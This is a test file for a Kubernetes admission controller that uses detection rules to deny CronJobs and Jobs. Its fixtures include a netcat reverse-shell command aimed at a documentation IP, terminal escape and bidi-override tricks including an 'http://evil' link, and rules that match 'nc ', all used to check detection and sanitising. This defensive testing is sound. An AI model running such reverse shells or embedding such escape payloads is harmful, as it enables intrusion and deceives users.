import { describe, expect, it } from 'vitest';
import { AdmissionEvaluator } from '../../src/admission/decide.js';
import { parseAdmissionReview } from '../../src/admission/review.js';
import { fit, joinCapped } from '../../src/admission/text.js';
import { loadRuleSources } from '../../src/sigma/index.js';
import { body, evaluator, NOW, RULE, text } from './helpers.js';

const bytes = (s: string) => Buffer.byteLength(s);
// Anything a terminal would act on or display deceptively.
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069]/;

describe('admission response text', () => {
  it('names the rule, its id, the evidence and how to get an exception', () => {
    const out = evaluator().evaluateJson(text('cronjob-create-reverse-shell.json'));
    const message = out.review.response.status!.message;
    expect(message).toMatch(/^cronwarden denied this CronJob ci\/log-rotate: \[critical\]/);
    expect(message).toContain(`Reverse Shell in a Workload Command (rule ${RULE.reverseShell})`);
    expect(message).toContain('workload.commands = "nc 203.0.113.66 4444 -e /bin/sh"');
    expect(message).toContain(`exception for rule ${RULE.reverseShell} in namespace ci`);
    // Denied matches are in the message; the lower ones are warnings, informational ones neither.
    expect(out.review.response.warnings).toEqual([
      expect.stringMatching(/^cronwarden \[low\] CronJob Scheduled to Run Every Five Minutes/),
    ]);
    expect(out.review.response.auditAnnotations).toEqual({
      decision: 'deny',
      mode: 'enforce',
      severity: 'critical',
      rules: [RULE.reverseShell, RULE.frequentSchedule, RULE.generalPurposeImage].join(','),
      alert: out.alert!.id,
    });
  });

  it('lists every denying rule of a request that breaks several', () => {
    const message = evaluator().evaluateJson(text('job-create-privileged-hostpath-etc.json')).review
      .response.status!.message;
    expect(message).toContain(`(rule ${RULE.sensitiveHostPath}): workload.hostPaths.path = "/etc"`);
    expect(message).toContain(`; also [high] Privileged Container in a CronJob or Job`);
    expect(message).toContain(`${RULE.sensitiveHostPath}, ${RULE.privilegedBatch} in namespace`);
  });

  it('returns the alert the audit-log pipeline would raise, stable per request', () => {
    const ev = evaluator();
    const out = ev.evaluateJson(text('cronjob-create-reverse-shell.json'));
    expect(out.alert).toMatchObject({
      severity: 'critical',
      verb: 'create',
      time: NOW.toISOString(),
      stage: null,
      responseCode: null,
      decision: 'allow',
      user: { username: 'system:serviceaccount:ci:deployer' },
      object: { resource: 'cronjobs', namespace: 'ci', name: 'log-rotate', kind: 'CronJob' },
      source: { file: 'admission:3f1e2d4c-8b7a-4c69-9e5d-1a2b3c4d5e6f', line: 1 },
    });
    expect(out.alert!.mitre.techniques).toContain('T1053.007');
    expect(out.alert!.summary).toMatch(/created CronJob ci\/log-rotate/);
    expect(ev.evaluateJson(text('cronjob-create-reverse-shell.json')).alert!.id).toBe(
      out.alert!.id,
    );
  });

  it('keeps hostile evidence inert and every text within the Kubernetes limits', () => {
    // Ten rules that all match, with long titles, and a command full of escapes and bidi tricks.
    const rules = [
      'critical',
      'high',
      'medium',
      'low',
      'medium',
      'high',
      'low',
      'medium',
      'low',
      'high',
    ]
      .map(
        (level, i) => `title: Rule ${i} ${'with a very long title '.repeat(6)}\u001b[2J
id: 00000000-0000-4000-8000-00000000000${i}
logsource: { product: kubernetes, service: audit }
detection:
  selection:
    workload.commands|contains: 'nc '
  condition: selection
level: ${level}
`,
      )
      .join('---\n');
    const { ruleSet } = loadRuleSources([{ file: 'many.yml', text: rules }], { strict: true });
    const b = body('cronjob-create-reverse-shell.json');
    const object = b.request.object as {
      spec: { jobTemplate: { spec: { template: { spec: { containers: { args: string[] }[] } } } } };
    };
    object.spec.jobTemplate.spec.template.spec.containers[0]!.args = [
      `nc 203.0.113.66 4444 -e /bin/sh # \u001b]8;;http://evil\u0007click\u001b[0m \u202eexe.txt ${'x'.repeat(5000)} \u{1F600}`,
    ];
    b.request.namespace = `ns-${'é'.repeat(200)}`;
    for (const mode of ['enforce', 'warn'] as const) {
      const ev = new AdmissionEvaluator({ ruleSet, mode, denySeverity: 'high', now: () => NOW });
      const { response } = ev.evaluate(parseAdmissionReview(b)).review;
      const warnings = response.warnings ?? [];
      expect(warnings.length).toBeGreaterThan(0);
      expect(warnings.length).toBeLessThanOrEqual(5);
      for (const w of [...warnings, response.status?.message ?? ''])
        expect(w, w).not.toMatch(UNSAFE);
      for (const w of warnings) expect(bytes(w)).toBeLessThanOrEqual(256);
      if (mode === 'warn') expect(warnings[4]).toMatch(/^cronwarden: 6 more rule\(s\) matched: /);
      if (mode === 'enforce') {
        expect(bytes(response.status!.message)).toBeLessThanOrEqual(1024);
        expect(response.status!.message).toContain('ask your security team');
      }
      for (const [key, value] of Object.entries(response.auditAnnotations!)) {
        expect(key).toMatch(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/);
        expect(bytes(value)).toBeLessThanOrEqual(256);
      }
    }
  });

  it('cuts on character boundaries and says how many values were left out', () => {
    expect(fit('abc', 3)).toBe('abc');
    expect(fit('😀😀😀', 9)).toBe('😀...');
    expect(joinCapped(['aaaa', 'bbbb', 'cccc'], 100)).toBe('aaaa,bbbb,cccc');
    expect(joinCapped(['aaaa', 'bbbb', 'cccc'], 12)).toBe('aaaa,bbbb,+1');
    expect(joinCapped(['aaaa', 'bbbb', 'cccc'], 11)).toBe('aaaa,+2');
    expect(joinCapped(['a\u001bb'], 20)).toBe('a\\u001bb');
  });
});
